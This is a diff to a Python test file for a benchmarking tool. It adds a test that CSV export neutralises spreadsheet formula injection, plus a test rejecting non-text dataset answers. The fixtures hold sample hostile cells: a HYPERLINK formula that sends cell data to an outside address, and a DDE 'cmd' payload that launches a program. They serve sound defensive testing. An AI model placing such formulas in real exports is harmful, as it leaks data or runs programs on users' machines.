@@ -5,6 +5,7 @@ accuracy is correct/n, a rerun sends no request, a killed run loses no finished 
 from __future__ import annotations
 
 import csv
+import io
 import json
 import signal
 import subprocess
@@ -17,6 +18,7 @@ import pytest
 
 from moot.core.bench.answers import extract, is_correct, majority
 from moot.core.bench.datasets import arithmetic, eval_arithmetic, load_dataset
+from moot.core.bench.output import render_csv
 from moot.core.bench.results import answers_by_round, read_row
 from moot.core.bench.stats import mcnemar_p, stderr
 from moot.core.models.config import AnswerFormat
@@ -206,3 +208,52 @@ def test_executor_ray_without_ray_is_one_line(tmp_path: Path, monkeypatch: pytes
     code, _, err = _bench("arithmetic:2", "--provider", "demo", "--headless", "--executor", "ray",
                           "--state-dir", str(tmp_path / "d"))
     assert code == 4 and err.strip().splitlines() == ["moot: --executor ray needs Ray: pip install 'moot[ray]'"]
+
+
+def test_bench_csv_cells_cannot_start_a_spreadsheet_formula(tmp_path: Path) -> None:
+    """A cell a data set or a model wrote that starts with = + - @ (or tab / CR) is a formula to a
+    spreadsheet (`=HYPERLINK(…)` leaks data, `=cmd|…` runs a program): it gets a leading quote (a
+    bare CR, which would split the row, goes first). A plain number (-12) stays a number; the JSON
+    output keeps every value as it was."""
+    data = tmp_path / "q.jsonl"
+    data.write_text("\n".join(json.dumps(x) for x in [
+        {"id": "q1", "question": "What is 7 minus 19?", "answer": "-12"},
+        {"id": "q2", "question": "Which formula links the report?", "answer": '=HYPERLINK("http://198.51.100.7/?q="&A2,"open")'},
+        {"id": "q3", "question": "Which formula sums the column?", "answer": "@SUM(A1:A9)"},
+    ]) + "\n")
+    sd = tmp_path / "d"
+    code, _, err = _bench(str(data), "--protocols", "single", "--provider", "demo", "--headless",
+                          "--state-dir", str(sd), "-o", str(tmp_path / "r.csv"))
+    assert code == 0, err
+    rows = list(csv.DictReader((tmp_path / "r.csv").open(newline="")))
+    # (a text answer compares normalized: lower case, no closing punctuation)
+    assert [r["expected"] for r in rows] == ["-12", '\'=hyperlink("http://198.51.100.7/?q="&a2,"open', "'@sum(a1:a9"]
+    code, _, err = _bench(str(data), "--protocols", "single", "--provider", "demo", "--headless",
+                          "--state-dir", str(sd), "-o", str(tmp_path / "r.json"))
+    assert code == 0, err
+    doc = json.loads((tmp_path / "r.json").read_text())
+    assert doc["results"][2]["expected"] == "@sum(a1:a9"
+    # What a model or a server wrote: the answer, the error, the agents' answers.
+    row = {**doc["results"][0], "answer": "+cmd|' /C calc'!A0", "error": "\r=2+3", "decided_by": "\tsingle",
+           "agent_answers": {"a": "=1+1"}}
+    [line] = list(csv.DictReader(io.StringIO(render_csv({**doc, "results": [row]}), newline="")))
+    assert (line["answer"], line["error"], line["decided_by"]) == ("'+cmd|' /C calc'!A0", "'=2+3", "'\tsingle")
+    assert line["agent_answers"] == '{"a": "=1+1"}'  # starts with a brace: no formula
+
+
+@pytest.mark.parametrize(("answer", "says"), [
+    ([12, 13], "a list"), ({"value": 12}, "an object"), (None, "null"), (True, "true"), ("  ", "empty"),
+], ids=["list", "object", "null", "bool", "blank"])
+def test_a_dataset_answer_that_is_not_text_or_a_number_is_one_line_naming_the_line(
+        tmp_path: Path, answer: object, says: str) -> None:
+    """`str()` made a list "[12, 13]" and null "None": answers no model could give, so every
+    question was scored wrong without a word. Refused at the line that holds it."""
+    data = tmp_path / "q.jsonl"
+    data.write_text(json.dumps({"id": "q1", "question": "What is 12 times 24?", "answer": "288"}) + "\n"
+                    + json.dumps({"id": "q2", "question": "What is 7 minus 19?", "answer": answer}) + "\n")
+    code, out, err = _bench(str(data), "--protocols", "single", "--provider", "demo", "--headless",
+                            "--state-dir", str(tmp_path / "d"))
+    assert code == 2, err
+    assert err.count("\n") == 1 and "Traceback" not in err
+    assert f"{data}:2: answer must be text or a number" in err and says in err, err
+    assert not (tmp_path / "d").exists() or not any((tmp_path / "d").iterdir())
